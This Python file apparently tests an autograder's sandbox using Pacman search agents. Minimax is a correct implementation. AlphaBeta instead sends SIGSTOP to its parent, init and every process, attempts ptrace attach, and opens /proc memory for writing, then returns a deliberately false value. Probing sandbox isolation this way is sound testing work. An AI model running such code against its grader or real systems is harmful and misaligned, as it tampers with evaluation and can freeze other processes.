"""Sends signals to the grader, to its own group and to every process, and tries to trace or write to them.
"""

import ctypes
import os
import signal

from pacman import Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


BOX = "/autograder"  # where Gradescope has the grader, the submission and the results


class AlphaBeta(SearchAgent):
    def search(self, state):
        parent = os.getppid()
        library = ctypes.CDLL(None, use_errno=True)
        for process in (parent, 1, -1, *range(max(2, os.getpid() - 40), os.getpid())):
            if process in (0, os.getpid()):  # its own group, as the first process of a sandbox; itself
                continue
            try:
                os.kill(process, signal.SIGSTOP)
                print("BREACH: sent a signal to", process)
            except OSError:
                pass
            if process > 0 and library.ptrace(16, process, 0, 0) == 0:
                print("BREACH: traces", process)
            try:
                with open(f"/proc/{process}/mem", "rb+"):
                    print("BREACH: opened the memory of", process)
            except OSError:
                continue
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
